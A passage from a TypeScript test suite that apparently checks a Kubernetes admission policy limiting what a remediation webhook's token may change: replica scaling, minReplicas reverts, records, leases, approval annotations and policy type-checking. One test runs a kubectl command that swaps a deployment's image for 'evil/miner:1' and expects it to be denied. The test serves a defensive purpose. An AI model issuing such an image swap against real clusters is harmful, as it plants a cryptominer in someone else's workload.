    const scale = (replicas: number) => patch(`${APPS}/backend/scale`, { spec: { replicas } });
    await allows(scale(3));
    await allows(scale(MAX_REPLICAS));
    await denies(scale(MAX_REPLICAS - 1));
  });

  test("minReplicas raised, raised again, and restored to the owner's value", async () => {
    await allows(minReplicas(3, '3 from 2'));
    await allows(minReplicas(5, '5 from 2'));
    for (const attempt of [
      minReplicas(4, '4 from 2'),
      minReplicas(3, '3 from 2'),
      minReplicas(1, null),
      minReplicas(2),
      minReplicas(6, '6 from 5'),
    ]) {
      await denies(attempt);
    }
    const { spec, metadata } = await allows(minReplicas(2, null));
    expect([spec.minReplicas, metadata.annotations]).toEqual([2, { owner: 'team' }]);
  });

  test('minReplicas restored to the value that its owner has set meanwhile', async () => {
    await allows(minReplicas(5, '5 from 2'));
    expect(await asAdministrator(minReplicas(4))).toMatchObject({ code: 200 });
    await denies(minReplicas(2, null));
    await denies(minReplicas(6, '6 from 2'));
    await allows(minReplicas(6, '6 from 4'));
    await allows(minReplicas(4, null));
  });

  test("the action's own raises, one after the other, and the way back to the owner's value", async () => {
    const client = new KubernetesClient({ ...kubernetes.connection, tokenFile: deployed.tokenFile });
    const run = {
      clients: { kubernetes: client },
      target: { kind: 'Deployment', name: 'backend', namespace: APPLICATION },
      parameters: { autoscalers: ['backend'] },
    } as unknown as Attempt<ScaleUp>;
    const plan = (from: number, to: number) => ({
      summary: '',
      details: { kind: 'HorizontalPodAutoscaler' as const, name: 'backend', from, to },
    });
    await asAdministrator(minReplicas(2, null));
    await scaleUpAction.execute(run, plan(2, 3));
    await scaleUpAction.execute(run, plan(3, 5));
    // The first one expires, then the second one.
    expect(await scaleUpAction.revert!(run, plan(2, 3))).toBe('left backend at 5: it was changed since');
    expect(await scaleUpAction.revert!(run, plan(3, 5))).toBe('lowered minReplicas of backend from 5 to 2');
    client.close();
    const { spec, metadata } = (await asAdministrator({ method: 'GET', path: `${AUTOSCALERS}/backend` })).body;
    expect([spec.minReplicas, metadata.annotations]).toEqual([2, { owner: 'team' }]);
  });

  test('its records, locks and Events', async () => {
    await allows({ method: 'POST', path: RECORDS, body: record('new') });
    await allows(patch(`${RECORDS}/new`, { metadata: { labels: { [KEYS.open]: 'true' } } }));
    await allows(patch(`${RECORDS}/new/status`, { status: { phase: 'skipped' } }));
    await allows({ method: 'DELETE', path: `${RECORDS}/new` });
    await allows({ method: 'POST', path: RECORDS, body: record('reverted') });
    for (const phase of ['executing', 'verifying', 'succeeded']) {
      const { dryRun, ...status } = EXECUTED;
      await allows(patch(`${RECORDS}/reverted/status`, { status: { ...status, phase } }));
    }
    await denies({ method: 'DELETE', path: `${RECORDS}/reverted` });
    await allows(patch(`${RECORDS}/reverted/status`, { status: { revertResult: 'lowered' } }));
    await allows({ method: 'DELETE', path: `${RECORDS}/reverted` });
    await allows({ method: 'POST', path: LEASES, body: lease('remediation-lock') });
    await allows(patch(`${LEASES}/remediation-lock`, { spec: { renewTime: inSeconds(10) } }));
    await allows({ method: 'DELETE', path: `${LEASES}/remediation-lock` });
    // A clock may be ahead or behind.
    for (const seconds of [-540, 540]) {
      const name = `remediation-clock-${seconds + 1000}`;
      await allows({ method: 'POST', path: LEASES, body: lease(name, { renewTime: inSeconds(seconds) }) });
    }
    for (const namespace of [APPLICATION, MONITORING]) {
      const path = `/api/v1/namespaces/${namespace}/events`;
      const own = event('own', 'remediation-webhook');
      await allows({
        method: 'POST',
        path,
        body: { ...own, involvedObject: { ...own.involvedObject, namespace } },
      });
      await allows(patch(`${path}/own`, { count: 2 }));
    }
  });

  test('no record of an alert that is larger than the intake makes it', async () => {
    const made = record('large');
    const withAlert = (change: object) =>
      asWebhook({
        method: 'POST',
        path: RECORDS,
        body: { ...made, spec: { ...made.spec, alert: { ...made.spec.alert, ...change } } },
      });
    const many = Object.fromEntries(Array.from({ length: 65 }, (_, index) => [`label_${index}`, '']));
    expect(errorOf(await withAlert({ labels: many }))).toMatch(/^422 .*Too many/);
    expect(errorOf(await withAlert({ annotations: { text: 'x'.repeat(1025) } }))).toMatch(/^422 .*Too long/);
    expect(errorOf(await withAlert({ name: 'x'.repeat(1025) }))).toMatch(/^422 .*Too long/);
    expect(errorOf(await withAlert({ labels: { text: '\u0001'.repeat(1024) } }))).toBeUndefined();
  });

  test('a status that keeps the approval of a person, and does not add one', async () => {
    const approval = { metadata: { annotations: { [KEYS.approved]: 'true' } } };
    const { metadata } = await allows(patch(`${RECORDS}/waits/status`, { ...approval, status: { phase: 'accepted' } }));
    expect(metadata.annotations).toBeUndefined();
    expect(await asAdministrator(patch(`${RECORDS}/waits`, approval))).toMatchObject({ code: 200 });
    await allows(patch(`${RECORDS}/waits`, { metadata: { labels: { [KEYS.executed]: 'true' } } }));
    await denies(patch(`${RECORDS}/waits`, { metadata: { annotations: { [KEYS.approved]: null } } }));
  });

  test('token and access reviews', async () => {
    const review = (group: string, kind: string, spec: object) => ({
      method: 'POST' as const,
      path: `/apis/${group}/v1/${kind.toLowerCase()}s`,
      body: { apiVersion: `${group}/v1`, kind, spec },
    });
    await allows(review('authentication.k8s.io', 'TokenReview', { token: deployed.notifierToken }));
    const resourceAttributes = { verb: 'get', resource: 'pods' };
    await allows(review('authorization.k8s.io', 'SelfSubjectAccessReview', { resourceAttributes }));
  });

  test('nothing else, and kubectl shows why', async () => {
    const { code, stderr } = await kubernetes.kubectl(
      ...['set', 'image', 'deployment/backend', 'server=evil/miner:1', `--namespace=${APPLICATION}`],
      `--token=${readFileSync(deployed.tokenFile, 'utf8')}`,
    );
    expect([code, stderr]).toEqual([
      1,
      expect.stringContaining(
        'remediation-webhook may not UPDATE deployments.apps backend like this: no policy needs it',
      ),
    ]);
  });
});

describe('the expressions of the admission policy', () => {
  const { allowedUpdates } = requirementsOf(POLICIES);
  const policies = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies';

  /** Warnings of the API server's type checker about a policy. */
  const warningsOf = async (name: string): Promise<readonly string[]> => {
    let warnings: readonly { warning: string }[] = [];
    await waitFor(`policy ${name} to be checked`, async () => {
      const { status, metadata } = (await asAdministrator({ method: 'GET', path: `${policies}/${name}` })).body;
      warnings = status.typeChecking?.expressionWarnings ?? [];
      return status.observedGeneration === metadata.generation;
    });
    return warnings.map(({ warning }) => warning);
  };

  /** Warnings about a policy with a single allowed update: a policy for every resource is not type-checked. */
  const warningsOfFence = async (index: number, name: string, change = (expression: string) => expression) => {
    const { body: policy } = await asAdministrator({ method: 'GET', path: `${policies}/${FENCE}` });
    const { apiGroup, version, resource } = allowedUpdates[index]!;
    const rule = { apiGroups: [apiGroup], apiVersions: [version], resources: [resource], operations: ['UPDATE'] };
    const expressionOf = (variable: string) =>
      policy.spec.variables.find(({ name: known }: { name: string }) => known === variable).expression as string;
    // Variables are not type-checked, so the expression must be in the validation.
    const spec = {
      matchConstraints: { resourceRules: [rule] },
      variables: [{ name: 'what', expression: expressionOf('what') }],
      validations: [{ expression: change(expressionOf(`update${index}`)) }],
    };
    const made = await asAdministrator({ method: 'POST', path: policies, body: { metadata: { name }, spec } });
    expect(errorOf(made)).toBeUndefined();
    return warningsOf(name);
  };

  test('have no warning of the type checker', async () => {
    expect(await warningsOf(FENCE)).toEqual([]);
    // Subresources are not checked.
    const whole = allowedUpdates
      .map((_, index) => index)
      .filter((index) => !allowedUpdates[index]!.resource.includes('/'));
    expect(whole.map((index) => allowedUpdates[index]!.resource)).toEqual(['deployments', 'horizontalpodautoscalers']);
    for (const index of whole) {
      expect(await warningsOfFence(index, `typed-${index}`)).toEqual([]);
    }
  });

  test('would have one for a misspelt field', async () => {
    const warnings = await warningsOfFence(0, 'misspelt', (expression) =>
      expression.replace('object.spec.?paused', 'object.spec.?pause'),
    );
    expect(warnings).toEqual([expect.stringContaining("undefined field 'pause'")]);
  });

  test('mention every field', async () => {
    const schemas = async (group: string) =>
      (await asAdministrator({ method: 'GET', path: `/openapi/v3/apis/${group}` })).body.components.schemas;
    const [apps, autoscaling] = [await schemas('apps/v1'), await schemas('autoscaling/v2')];
    const fields = (schema: { properties: object }) => Object.keys(schema.properties);
    const expressionsOf = (resource: string) =>
      allowedUpdates.find((update) => update.resource === resource)!.expressions;
    const [forDeployments, forAutoscalers] = ['deployments', 'horizontalpodautoscalers'].map(expressionsOf);
    const silentAbout = (path: string, names: readonly string[], expressions: readonly string[]) =>
      names.filter((name) => !expressions.some((text) => text.includes(`object.${path}.?${name}`)));

    const metadata = fields(apps['io.k8s.apimachinery.pkg.apis.meta.v1.ObjectMeta']).filter(
      (name) => !OF_THE_API_SERVER.includes(name),
    );
    expect(metadata.sort()).toEqual(['annotations', ...METADATA].sort());
    expect(silentAbout('metadata', metadata, forDeployments!)).toEqual([]);
    expect(silentAbout('metadata', metadata, forAutoscalers!)).toEqual([]);
    expect(silentAbout('spec.template.metadata', [...metadata, 'name', 'namespace'], forDeployments!)).toEqual([]);
    expect(fields(apps['io.k8s.api.core.v1.PodTemplateSpec']).sort()).toEqual(['metadata', 'spec']);
    const deployment = fields(apps['io.k8s.api.apps.v1.DeploymentSpec']).filter((name) => name !== 'template');
    expect(silentAbout('spec', deployment, forDeployments!)).toEqual([]);
    const autoscaler = fields(autoscaling['io.k8s.api.autoscaling.v2.HorizontalPodAutoscalerSpec']);
    expect(silentAbout('spec', autoscaler, forAutoscalers!)).toEqual([]);
    // A control: a field that a later version adds would be noticed.
    expect(silentAbout('spec', [...deployment, 'later'], forDeployments!)).toEqual(['later']);
  });
});

test('the manifests are unchanged when they are applied again', async () => {
  const { code, stdout, stderr } = await kubernetes.kubectl('apply', '--filename', deployed.manifests);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  const lines = stdout.split('\n').filter(Boolean);
  expect(lines).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^customresourcedefinition.* unchanged$/),
      expect.stringMatching(/^validatingadmissionpolicy\..* unchanged$/),
      expect.stringMatching(/^validatingadmissionpolicybinding.* unchanged$/),
    ]),
  );
  const changed = lines.filter((line) => !line.endsWith(' unchanged'));
  expect(changed.filter((line) => !line.startsWith(ALWAYS_SENT))).toEqual([]);
});
